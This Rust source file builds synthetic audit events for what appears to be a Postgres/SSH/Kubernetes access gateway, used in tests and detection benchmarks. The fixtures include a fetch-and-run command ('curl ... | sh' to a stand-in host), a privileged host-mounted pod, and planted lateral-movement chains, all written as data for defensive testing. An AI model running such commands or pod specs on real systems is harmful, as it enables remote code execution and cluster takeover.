//! Deterministic sample events: one of each payload type (fixtures, docs) and a
//! stream of varied, realistic events (tests, benchmarks, demos).

use chrono::{DateTime, Duration, TimeZone, Utc};

use crate::payload::*;
use crate::{Event, EventId, Identity, Protocol};

fn at(base: DateTime<Utc>, ms: i64) -> DateTime<Utc> {
    base + Duration::milliseconds(ms)
}

fn fixed_base() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 1, 9, 30, 0)
        .single()
        .unwrap_or_default()
}

fn identity(name: &str) -> Identity {
    Identity {
        name: name.into(),
        on_behalf_of: Some("alice@example.com".into()),
        role: Some("deployer".into()),
        credential_id: Some("tok_01".into()),
    }
}

/// One event of each payload type added after the v1 fixtures were frozen, with
/// fixed ids and times: together with [`one_of_each`] they cover every payload type.
pub fn later_additions() -> Vec<Event> {
    let base = fixed_base();
    let gw = "gw-1";
    let mut n = 0u128;
    let mut id = || {
        n += 1;
        EventId::from_u128(0x0190_0000_0000_7000_8000_0000_0001_0000 + n)
    };
    vec![
        Event::builder(
            gw,
            GrantRevoked {
                approval_id: "apr_7".into(),
                revoked_by: "bob@example.com".into(),
                reason: "incident closed".into(),
            },
        )
        .identity(identity("agent:etl"))
        .target("prod-db")
        .id(id())
        .time(at(base, 160_000))
        .build(),
        Event::builder(
            gw,
            ApprovalWithdrawn {
                approval_id: "apr_10".into(),
                reason: "client_disconnected".into(),
            },
        )
        .identity(identity("agent:etl"))
        .target("prod-db")
        .id(id())
        .time(at(base, 161_000))
        .build(),
        Event::builder(
            gw,
            LogOutage {
                started_at: at(base, 162_000),
                ended_at: at(base, 170_000),
                error: "event log i/o error on `log/00000000000000000000.seg`: No space left on device (os error 28)".into(),
                refused_appends: 42,
                failed_attempts: 5,
            },
        )
        .id(id())
        .time(at(base, 170_000))
        .build(),
        Event::builder(
            gw,
            ShipperRewound {
                sink: "kafka".into(),
                cursor: 1_063,
                log_end: 1_056,
            },
        )
        .id(id())
        .time(at(base, 171_000))
        .build(),
    ]
}

/// One event of every payload type, with fixed ids and times (schema fixtures).
pub fn one_of_each() -> Vec<Event> {
    let base = fixed_base();
    let gw = "gw-1";
    let mut n = 0u128;
    let mut id = || {
        n += 1;
        EventId::from_u128(0x0190_0000_0000_7000_8000_0000_0000_0000 + n)
    };
    let pg_req = id();
    let ssh_req = id();
    let k8s_req = id();
    let pg = |b: crate::EventBuilder| {
        b.session("pg-s1")
            .identity(identity("agent:etl"))
            .target("prod-db")
            .protocol(Protocol::Postgres)
    };
    let ssh = |b: crate::EventBuilder| {
        b.session("ssh-s1")
            .identity(identity("agent:etl"))
            .target("bastion")
            .protocol(Protocol::Ssh)
    };
    let k8s = |b: crate::EventBuilder| {
        b.session("k8s-s1")
            .identity(identity("agent:etl"))
            .target("prod-cluster")
            .protocol(Protocol::Kubernetes)
    };
    vec![
        pg(Event::builder(
            gw,
            SessionOpened {
                client_addr: Some("127.0.0.1:50432".into()),
                login: Some("etl".into()),
                auth_method: Some("scram-sha-256".into()),
                upstream_host: Some("10.0.0.5".into()),
                client_application: Some("psql".into()),
            },
        ))
        .id(id())
        .time(at(base, 0))
        .build(),
        pg(Event::builder(
            gw,
            RequestObserved {
                reason: None,
                command: "SELECT hostname FROM infra.hosts WHERE env = 'prod'".into(),
                detail: RequestDetail::Postgres(PgStatement {
                    kind: PgKind::Select,
                    statement_index: 0,
                    statement_count: 1,
                    tables_read: vec!["infra.hosts".into()],
                    columns: vec!["hostname".into(), "env".into()],
                    phase: "simple".into(),
                    ..PgStatement::default()
                }),
            },
        ))
        .id(pg_req)
        .time(at(base, 10))
        .build(),
        pg(Event::builder(
            gw,
            DecisionMade {
                request: Some(pg_req),
                effect: Effect::Allow,
                rules: vec!["allow_reads".into()],
                policy_version: Some("p-3f2a".into()),
                ..DecisionMade::default()
            },
        ))
        .id(id())
        .time(at(base, 10))
        .build(),
        pg(Event::builder(
            gw,
            ResultObserved {
                request: Some(pg_req),
                status: ResultStatus::Ok,
                rows: Some(2),
                bytes: Some(96),
                code: None,
                message: None,
                duration_us: Some(850),
                masked: 0,
                captures: vec![Capture {
                    name: "hosts".into(),
                    source: "hostname".into(),
                    values: vec!["web-1.internal".into(), "db-2.internal".into()],
                    truncated: false,
                    hosts: vec![],
                }],
                sample: Some("hostname\nweb-1.internal\ndb-2.internal\n".into()),
            },
        ))
        .id(id())
        .time(at(base, 11))
        .build(),
        ssh(Event::builder(
            gw,
            RequestObserved {
                reason: None,
                command: "curl -s http://x.example/i.sh | sh".into(),
                detail: RequestDetail::Ssh(SshRequest {
                    kind: SshRequestKind::Exec,
                    host: "web-1.internal".into(),
                    channel: 0,
                    pty: false,
                    argv: vec!["curl".into(), "-s".into(), "http://x.example/i.sh".into()],
                    program: Some("curl".into()),
                    programs: vec!["curl".into(), "sh".into()],
                    ..SshRequest::default()
                }),
            },
        ))
        .id(ssh_req)
        .time(at(base, 60_000))
        .build(),
        ssh(Event::builder(
            gw,
            SessionData {
                channel: 0,
                direction: DataDirection::Output,
                elapsed_us: 120_000,
                text: Some("hello\n".into()),
                base64: None,
            },
        ))
        .id(id())
        .time(at(base, 60_100))
        .build(),
        k8s(Event::builder(
            gw,
            RequestObserved {
                reason: None,
                command: "POST /api/v1/namespaces/default/pods".into(),
                detail: RequestDetail::Kubernetes(K8sRequest {
                    method: "POST".into(),
                    path: "/api/v1/namespaces/default/pods".into(),
                    verb: "create".into(),
                    api_group: String::new(),
                    api_version: "v1".into(),
                    resource: "pods".into(),
                    namespace: Some("default".into()),
                    name: Some("debug".into()),
                    pod: Some(PodSpecSummary {
                        kind: "Pod".into(),
                        images: vec!["alpine:3.20".into()],
                        commands: vec!["sh -c sleep 1d".into()],
                        privileged: true,
                        host_paths: vec!["/".into()],
                        host_network: true,
                        ..PodSpecSummary::default()
                    }),
                    ..K8sRequest::default()
                }),
            },
        ))
        .id(k8s_req)
        .time(at(base, 120_000))
        .build(),
        k8s(Event::builder(
            gw,
            ApprovalRequested {
                approval_id: "apr_7".into(),
                request: k8s_req,
                command: "POST /api/v1/namespaces/default/pods".into(),
                rule: "pg_ssh_k8s".into(),
                group: "sre-oncall".into(),
                deadline: at(base, 120_000 + 15 * 60_000),
                message: None,
                reason: None,
                summary: None,
                chain: Vec::new(),
            },
        ))
        .id(id())
        .time(at(base, 120_001))
        .build(),
        k8s(Event::builder(
            gw,
            AlertRaised {
                rule: "pg_ssh_k8s".into(),
                sequence: true,
                message:
                    "agent:etl read infra.hosts, opened ssh to web-1.internal, then created a pod"
                        .into(),
                severity: Severity::Critical,
                tags: vec!["attack.lateral_movement".into(), "attack.t1021.004".into()],
                effect: Some(Effect::RequireApproval),
                request: Some(k8s_req),
                related_events: vec![pg_req, ssh_req, k8s_req],
                chain: Vec::new(),
            },
        ))
        .id(id())
        .time(at(base, 120_002))
        .build(),
        Event::builder(
            gw,
            ApprovalGranted {
                approval_id: "apr_7".into(),
                reviewer: "bob@example.com".into(),
                valid_until: Some(at(base, 150_000 + 30 * 60_000)),
            },
        )
        .id(id())
        .time(at(base, 150_000))
        .build(),
        Event::builder(
            gw,
            ApprovalDenied {
                approval_id: "apr_8".into(),
                reviewer: "bob@example.com".into(),
                reason: "not during the freeze".into(),
            },
        )
        .id(id())
        .time(at(base, 150_500))
        .build(),
        Event::builder(
            gw,
            ApprovalExpired {
                approval_id: "apr_9".into(),
            },
        )
        .id(id())
        .time(at(base, 151_000))
        .build(),
        Event::builder(
            gw,
            CredentialIssued {
                credential_id: "tok_02".into(),
                subject: "agent:etl".into(),
                target: "prod-db".into(),
                protocol: Protocol::Postgres,
                expires_at: at(base, 15 * 60_000),
                on_behalf_of: Some("alice@example.com".into()),
                issued_by: Some("admin".into()),
            },
        )
        .id(id())
        .time(at(base, 152_000))
        .build(),
        Event::builder(
            gw,
            CredentialRevoked {
                credential_id: "tok_02".into(),
                revoked_by: Some("admin".into()),
                reason: Some("rotation".into()),
            },
        )
        .id(id())
        .time(at(base, 153_000))
        .build(),
        Event::builder(
            gw,
            AuthFailed {
                client_addr: Some("127.0.0.1:50999".into()),
                login: Some("etl+prod-db".into()),
                reason: "expired".into(),
            },
        )
        .protocol(Protocol::Postgres)
        .target("prod-db")
        .id(id())
        .time(at(base, 154_000))
        .build(),
        pg(Event::builder(
            gw,
            SessionClosed {
                reason: "client_closed".into(),
                duration_ms: Some(155_000),
            },
        ))
        .id(id())
        .time(at(base, 155_000))
        .build(),
    ]
}

/// A cheap, varied request/decision/result stream for load (`i` picks the shape).
/// Events get fresh ids and the current time.
pub fn sample(i: u64, gateway: &str) -> Event {
    let who = format!("agent:{}", i % 97);
    let b = |p: Payload, proto: Protocol, target: &str| {
        Event::builder(gateway, p)
            .session(format!("s-{}", i / 8))
            .identity(Identity::named(who.clone()))
            .target(target)
            .protocol(proto)
            .build()
    };
    match i % 4 {
        0 => b(
            RequestObserved {
                reason: None,
                command: format!("SELECT id, name, email FROM app.users WHERE id = {i}"),
                detail: RequestDetail::Postgres(PgStatement {
                    kind: PgKind::Select,
                    statement_count: 1,
                    tables_read: vec!["app.users".into()],
                    columns: vec!["id".into(), "name".into(), "email".into()],
                    phase: "simple".into(),
                    ..PgStatement::default()
                }),
            }
            .into(),
            Protocol::Postgres,
            "prod-db",
        ),
        1 => b(
            DecisionMade {
                request: Some(EventId::new()),
                effect: Effect::Allow,
                rules: vec!["allow_reads".into()],
                ..DecisionMade::default()
            }
            .into(),
            Protocol::Postgres,
            "prod-db",
        ),
        2 => b(
            RequestObserved {
                reason: None,
                command: format!("ls -la /var/log/app-{}", i % 13),
                detail: RequestDetail::Ssh(SshRequest {
                    kind: SshRequestKind::Exec,
                    host: format!("web-{}.internal", i % 7),
                    argv: vec![
                        "ls".into(),
                        "-la".into(),
                        format!("/var/log/app-{}", i % 13),
                    ],
                    program: Some("ls".into()),
                    programs: vec!["ls".into()],
                    ..SshRequest::default()
                }),
            }
            .into(),
            Protocol::Ssh,
            "web",
        ),
        _ => b(
            ResultObserved {
                request: Some(EventId::new()),
                status: ResultStatus::Ok,
                rows: Some(i % 100),
                duration_us: Some(420),
                ..ResultObserved::default()
            }
            .into(),
            Protocol::Kubernetes,
            "prod-cluster",
        ),
    }
}

/// What [`history`] generates.
#[derive(Debug, Clone)]
pub struct HistorySpec {
    /// Distinct agent identities.
    pub identities: u32,
    /// Benign events (approximately; each benign step is a request, a decision and
    /// sometimes a result).
    pub benign_events: u64,
    /// Full Postgres -> SSH -> Kubernetes chains to plant, each split across sessions.
    pub chains: u32,
    /// Time span of the history.
    pub span: Duration,
    /// First event time.
    pub start: DateTime<Utc>,
    /// Seed of the deterministic generator.
    pub seed: u64,
    /// Give each benign step a random role instead of one role per identity, so
    /// every identity uses all three protocols and benign traffic forms chains too
    /// (real ones, as far as the hunt can tell). For measuring the hunt where
    /// narrowing by identity cannot help.
    pub mixed_roles: bool,
}

impl Default for HistorySpec {
    fn default() -> Self {
        Self {
            identities: 20,
            benign_events: 5_000,
            chains: 3,
            span: Duration::hours(6),
            start: fixed_base(),
            seed: 7,
            mixed_roles: false,
        }
    }
}

/// A planted chain: the events a hunt must report.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PlantedChain {
    /// Identity.
    pub identity: String,
    /// The host read in Postgres and then logged into.
    pub host: String,
    /// The Postgres request whose result named the host.
    pub recon: EventId,
    /// The SSH session-open request.
    pub hop: EventId,
    /// The Kubernetes pod creation request.
    pub pod: EventId,
}

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        // xorshift64*: deterministic, good enough for test data.
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    fn below(&mut self, n: u64) -> u64 {
        if n == 0 { 0 } else { self.next() % n }
    }
}

struct Gen {
    rng: Rng,
    out: Vec<Event>,
    seq: u128,
    gateway: String,
}

impl Gen {
    fn id(&mut self, time: DateTime<Utc>) -> EventId {
        // Time-ordered ids: the timestamp in the high bits, a counter below.
        self.seq += 1;
        let ms = u128::try_from(time.timestamp_millis()).unwrap_or(0);
        EventId::from_u128((ms << 80) | (0x7 << 76) | (self.seq & ((1u128 << 64) - 1)))
    }

    fn push(
        &mut self,
        time: DateTime<Utc>,
        who: &str,
        session: &str,
        target: &str,
        proto: Protocol,
        payload: Payload,
    ) -> EventId {
        let id = self.id(time);
        self.out.push(
            Event::builder(&self.gateway, payload)
                .id(id)
                .time(time)
                .session(session)
                .identity(Identity::named(who))
                .target(target)
                .protocol(proto)
                .build(),
        );
        id
    }

    /// A request with its decision (and optionally a result).
    #[expect(
        clippy::too_many_arguments,
        reason = "a private test-data helper; a struct would only rename the arguments"
    )]
    fn step(
        &mut self,
        time: DateTime<Utc>,
        who: &str,
        session: &str,
        target: &str,
        proto: Protocol,
        command: String,
        detail: RequestDetail,
        result: Option<ResultObserved>,
    ) -> EventId {
        let req = self.push(
            time,
            who,
            session,
            target,
            proto,
            RequestObserved {
                command,
                detail,
                reason: None,
            }
            .into(),
        );
        let decided = DecisionMade {
            request: Some(req),
            effect: Effect::Allow,
            rules: vec!["allow_all".into()],
            ..DecisionMade::default()
        };
        self.push(time, who, session, target, proto, decided.into());
        if let Some(mut r) = result {
            r.request = Some(req);
            self.push(
                time + Duration::milliseconds(2),
                who,
                session,
                target,
                proto,
                r.into(),
            );
        }
        req
    }

    fn pg(
        &mut self,
        time: DateTime<Utc>,
        who: &str,
        session: &str,
        sql: &str,
        table: &str,
        sample: String,
    ) -> EventId {
        self.pg_captured(time, who, session, sql, table, sample, Vec::new())
    }

    #[allow(clippy::too_many_arguments, reason = "one synthetic step, spelled out")]
    fn pg_captured(
        &mut self,
        time: DateTime<Utc>,
        who: &str,
        session: &str,
        sql: &str,
        table: &str,
        sample: String,
        captures: Vec<Capture>,
    ) -> EventId {
        self.step(
            time,
            who,
            session,
            "prod-db",
            Protocol::Postgres,
            sql.to_owned(),
            RequestDetail::Postgres(PgStatement {
                kind: PgKind::Select,
                statement_count: 1,
                tables_read: vec![table.to_owned()],
                phase: "simple".into(),
                ..PgStatement::default()
            }),
            Some(ResultObserved {
                status: ResultStatus::Ok,
                rows: Some(3),
                sample: Some(sample),
                duration_us: Some(300),
                captures,
                ..ResultObserved::default()
            }),
        )
    }

    fn ssh_login(&mut self, time: DateTime<Utc>, who: &str, session: &str, host: &str) -> EventId {
        self.ssh_login_keyed(time, who, session, host, Vec::new())
    }

    fn ssh_login_keyed(
        &mut self,
        time: DateTime<Utc>,
        who: &str,
        session: &str,
        host: &str,
        hosts: Vec<String>,
    ) -> EventId {
        self.step(
            time,
            who,
            session,
            "web",
            Protocol::Ssh,
            format!("login {host}"),
            RequestDetail::Ssh(SshRequest {
                kind: SshRequestKind::SessionOpen,
                host: host.to_owned(),
                hosts,
                ..SshRequest::default()
            }),
            None,
        )
    }

    /// A Kubernetes client run over SSH (`ssh.pivot` = `kubernetes`).
    fn ssh_kubectl(
        &mut self,
        time: DateTime<Utc>,
        who: &str,
        session: &str,
        host: &str,
    ) -> EventId {
        let cmd = "kubectl run debug --image=busybox";
        self.step(
            time,
            who,
            session,
            "web",
            Protocol::Ssh,
            cmd.to_owned(),
            RequestDetail::Ssh(SshRequest {
                kind: SshRequestKind::Exec,
                host: host.to_owned(),
                argv: cmd.split(' ').map(str::to_owned).collect(),
                program: Some("kubectl".into()),
                programs: vec!["kubectl".into()],
                pivot: vec!["kubernetes".into()],
                ..SshRequest::default()
            }),
            Some(ResultObserved {
                status: ResultStatus::Ok,
                code: Some("0".into()),
                ..ResultObserved::default()
            }),
        )
    }

    fn ssh_exec(
        &mut self,
        time: DateTime<Utc>,
        who: &str,
        session: &str,
        host: &str,
        cmd: &str,
    ) -> EventId {
        let argv: Vec<String> = cmd.split_whitespace().map(str::to_owned).collect();
        let program = argv.first().cloned();
        self.step(
            time,
            who,
            session,
            "web",
            Protocol::Ssh,
            cmd.to_owned(),
            RequestDetail::Ssh(SshRequest {
                kind: SshRequestKind::Exec,
                host: host.to_owned(),
                programs: program.iter().cloned().collect(),
                program,
                argv,
                ..SshRequest::default()
            }),
            Some(ResultObserved {
                status: ResultStatus::Ok,
                code: Some("0".into()),
                ..ResultObserved::default()
            }),
        )
    }

    fn k8s(
        &mut self,
        time: DateTime<Utc>,
        who: &str,
        session: &str,
        verb: &str,
        name: Option<&str>,
    ) -> EventId {
        let create = verb == "create";
        let path = match name {
            Some(n) if !create => format!("/api/v1/namespaces/default/pods/{n}"),
            _ => "/api/v1/namespaces/default/pods".to_owned(),
        };
        let method = match verb {
            "create" => "POST",
            "delete" => "DELETE",
            _ => "GET",
        };
        self.step(
            time,
            who,
            session,
            "prod-cluster",
            Protocol::Kubernetes,
            format!("{method} {path}"),
            RequestDetail::Kubernetes(K8sRequest {
                method: method.into(),
                path,
                verb: verb.into(),
                api_version: "v1".into(),
                resource: "pods".into(),
                namespace: Some("default".into()),
                name: name.map(str::to_owned),
                pod: create.then(|| PodSpecSummary {
                    kind: "Pod".into(),
                    images: vec!["alpine:3.20".into()],
                    ..PodSpecSummary::default()
                }),
                ..K8sRequest::default()
            }),
            Some(ResultObserved {
                status: ResultStatus::Ok,
                code: Some(if create { "201" } else { "200" }.into()),
                ..ResultObserved::default()
            }),
        )
    }
}

/// A deterministic history: benign traffic from many identities, with `chains`
/// Postgres -> SSH -> Kubernetes chains planted among it (each chain's three steps in
/// three different sessions, windows of different chains overlapping). Benign traffic
/// never forms a chain or a two-step variant: identities that read host names never
/// log into them within 30 minutes, identities that log into hosts never create pods
/// within 30 minutes (unless [`HistorySpec::mixed_roles`]). Events come out sorted by
/// time.
pub fn history(spec: &HistorySpec) -> (Vec<Event>, Vec<PlantedChain>) {
    let mut g = Gen {
        rng: Rng(spec.seed.max(1)),
        out: Vec::new(),
        seq: 0,
        gateway: "gw-history".into(),
    };
    let span_ms = spec.span.num_milliseconds().max(1);
    let hosts: Vec<String> = (0..40)
        .map(|i| format!("node-{i:02}.infra.internal"))
        .collect();
    let idents = spec.identities.max(3);
    // Benign roles by identity index: 0 = reads host lists only, 1 = SSH operator,
    // 2 = Kubernetes deployer; never mixed (unless `mixed_roles`), so no chain can
    // form.
    let mut made = 0u64;
    while made < spec.benign_events {
        let t = spec.start
            + Duration::milliseconds(i64::try_from(g.rng.below(span_ms as u64)).unwrap_or(0));
        let who_i = g.rng.below(u64::from(idents));
        let who = format!("agent:bot-{who_i:03}");
        let session = format!("s-{who_i}-{}", t.timestamp() / 600);
        let role = if spec.mixed_roles {
            g.rng.below(3)
        } else {
            who_i % 3
        };
        match role {
            0 => {
                if g.rng.below(4) == 0 {
                    let a = hosts
                        .get(g.rng.below(40) as usize)
                        .cloned()
                        .unwrap_or_default();
                    g.pg(
                        t,
                        &who,
                        &session,
                        "SELECT hostname FROM infra.hosts WHERE env = 'prod'",
                        "infra.hosts",
                        format!("hostname\n{a}\n"),
                    );
                } else {
                    let n = g.rng.below(100_000);
                    g.pg(
                        t,
                        &who,
                        &session,
                        &format!("SELECT id, total FROM app.orders WHERE id = {n}"),
                        "app.orders",
                        format!("id|total\n{n}|42.00\n"),
                    );
                }
                made += 3;
            }
            1 => {
                let host = hosts
                    .get(g.rng.below(40) as usize)
                    .cloned()
                    .unwrap_or_default();
                g.ssh_login(t, &who, &session, &host);
                g.ssh_exec(t + Duration::seconds(1), &who, &session, &host, "uptime");
                made += 5;
            }
            _ => {
                let verb = ["list", "get", "create", "delete"]
                    .get(g.rng.below(4) as usize)
                    .copied()
                    .unwrap_or("get");
                let name = format!("job-{}", g.rng.below(1000));
                g.k8s(t, &who, &session, verb, Some(&name));
                made += 3;
            }
        }
    }
    let mut planted = Vec::new();
    for c in 0..spec.chains {
        // Chains start at spread-out times, some overlapping one another.
        let offset =
            span_ms / i64::from(spec.chains + 1) * i64::from(c + 1) - 60_000 * i64::from(c % 2);
        let t0 = spec.start + Duration::milliseconds(offset);
        let who = format!("agent:intruder-{c}");
        let host = hosts
            .get((7 + c as usize * 3) % 40)
            .cloned()
            .unwrap_or_default();
        let decoy = hosts
            .get((8 + c as usize * 3) % 40)
            .cloned()
            .unwrap_or_default();
        // Four shapes, by chain number:
        // 0. the host's name in the result sample, the login to that name;
        // 1. a captured qualified name, the login to its short name (host keys);
        // 2. as 0, with `kubectl` run over SSH instead of a pod request;
        // 3. the host's address in the sample, the login to its name (host keys).
        // Before each, a result naming the host only inside longer tokens, which
        // must not count as the recon step.
        let shape = c % 4;
        let addr = format!("10.{}.{}.7", c / 250, c % 250);
        g.pg(
            t0 - Duration::minutes(1),
            &who,
            &format!("pg-{c}"),
            "SELECT note FROM infra.changes",
            "infra.changes",
            format!("note\nmoved x{host} to old-{host} and sub.{host}, not {addr}0\n"),
        );
        let sample = match shape {
            3 => format!("hostname|addr|role\n{decoy}|10.9.9.9|db\nbastion|{addr}|bastion\n"),
            _ => format!("hostname|role\n{decoy}|db\n{host}|bastion\n"),
        };
        let captures = if shape == 1 {
            let keys = |v: &str| crate::host::value_keys([v], []);
            let mut hosts = keys(&decoy);
            hosts.extend(keys(&host));
            vec![Capture {
                name: "pg_ssh_k8s.recon.hosts".into(),
                source: "hostname".into(),
                values: vec![decoy.clone(), host.clone()],
                truncated: false,
                hosts,
            }]
        } else {
            Vec::new()
        };
        let recon = g.pg_captured(
            t0,
            &who,
            &format!("pg-{c}"),
            "SELECT hostname, role FROM infra.hosts",
            "infra.hosts",
            sample,
            captures,
        );
        let (login, keys) = match shape {
            1 => {
                let short = host.split('.').next().unwrap_or(&host).to_owned();
                let keys = crate::host::target_keys([short.as_str()], []);
                (short, keys)
            }
            3 => {
                let ip: std::net::IpAddr = addr.parse().unwrap_or(std::net::IpAddr::from([0; 4]));
                (
                    host.clone(),
                    crate::host::target_keys([host.as_str()], [ip]),
                )
            }
            _ => (host.clone(), Vec::new()),
        };
        let hop = g.ssh_login_keyed(
            t0 + Duration::minutes(4),
            &who,
            &format!("ssh-{c}"),
            &login,
            keys,
        );
        g.ssh_exec(
            t0 + Duration::minutes(5),
            &who,
            &format!("ssh-{c}"),
            &login,
            "id",
        );
        let pod = if shape == 2 {
            g.ssh_kubectl(t0 + Duration::minutes(9), &who, &format!("ssh-{c}"), &login)
        } else {
            g.k8s(
                t0 + Duration::minutes(9),
                &who,
                &format!("k8s-{c}"),
                "create",
                Some("debug"),
            )
        };
        let host = login;
        planted.push(PlantedChain {
            identity: who,
            host,
            recon,
            hop,
            pod,
        });
    }
    g.out
        .sort_by(|a, b| a.time.cmp(&b.time).then(a.id.cmp(&b.id)));
    (g.out, planted)
}
